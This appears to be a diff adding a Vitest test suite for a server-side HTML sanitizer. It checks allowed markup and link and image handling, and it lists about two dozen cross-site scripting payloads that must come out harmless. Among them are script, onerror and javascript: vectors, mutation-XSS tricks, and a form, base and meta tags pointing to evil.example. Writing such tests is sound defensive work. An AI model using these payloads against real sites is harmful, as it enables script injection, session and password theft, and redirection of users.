@@ -1,0 +1,67 @@
+import { describe, expect, it } from 'vitest';
+import { safeHtml } from './safe-html.server';
+
+describe('safeHtml', () => {
+  it('keeps headings, lists, tables, emphasis and links, and puts their headings under ours', () => {
+    expect(safeHtml('<h1>A</h1><h3>B</h3><ul><li><em>x</em></li></ul>')).toBe(
+      '<h2>A</h2><h3>B</h3><ul><li><em>x</em></li></ul>',
+    );
+    expect(safeHtml('<table><tr><th scope="col" onclick="x()">a</th><td colspan="2">b</td></tr></table>')).toBe(
+      '<table><tr><th scope="col">a</th><td colspan="2">b</td></tr></table>',
+    );
+  });
+
+  it('opens links that leave in a new tab, and own ones here', () => {
+    expect(safeHtml('<a href="https://a.example/x">x</a>')).toBe(
+      '<a href="https://a.example/x" target="_blank" rel="noopener noreferrer">x</a>',
+    );
+    expect(safeHtml('<a href="/pages/2" target="_top">x</a>')).toBe('<a href="/pages/2">x</a>');
+    expect(safeHtml('<a href="mailto:a@a.example">x</a>')).toBe('<a href="mailto:a@a.example">x</a>');
+  });
+
+  it('loads pictures late, and drops those that may not be shown', () => {
+    expect(safeHtml('<img src="/media/a.svg" width="10" onerror="x()">')).toBe(
+      '<img src="/media/a.svg" alt="" width="10" loading="lazy" decoding="async" />',
+    );
+    expect(safeHtml('<img src="http://a.example/a.png"><img src="data:image/png;base64,AA"><img>')).toBe('');
+  });
+
+  it('closes what was left open', () => {
+    expect(safeHtml('<p><strong>a<ul><li>b')).toBe('<p><strong>a<ul><li>b</li></ul></strong></p>');
+  });
+
+  it.each([
+    '<script>alert(1)</script>',
+    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
+    '<scr<script>ipt>alert(1)</scr</script>ipt>',
+    '<img src=x onerror=alert(1)>',
+    '<img src="javascript:alert(1)">',
+    '<a href="javascript:alert(1)">x</a>',
+    '<a href=" java\nscript:alert(1)">x</a>',
+    '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
+    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+    '<a href="//evil.example">x</a>',
+    '<a href="/\\evil.example">x</a>',
+    '<svg onload=alert(1)><animate onbegin=alert(1)></svg>',
+    '<math><mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></mtext></math>',
+    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+    '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
+    '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
+    '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example">',
+    '<link rel=stylesheet href="https://evil.example/x.css"><style>*{background:url(https://evil.example)}</style>',
+    '<p style="background:url(javascript:alert(1))" class="x" id="content">x</p>',
+    '<details open ontoggle=alert(1)><video><source onerror=alert(1)></video>',
+    '<template><script>alert(1)</script></template><noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+    '<!--><img src=x onerror=alert(1)>-->',
+    '<![CDATA[<script>alert(1)</script>]]>',
+    '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
+    '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
+  ])('makes %s harmless', (html) => {
+    const safe = safeHtml(html);
+    const tags = [...safe.matchAll(/<\/?([a-z0-9]+)([^>]*)>/gi)];
+    for (const [, name, attributes = ''] of tags) {
+      expect(['a', 'img', 'p', 'ul', 'li']).toContain(name);
+      expect(attributes).not.toMatch(/\son\w+|style=|class=|id=|srcdoc|javascript:|data:|evil\.example/i);
+    }
+  });
+});
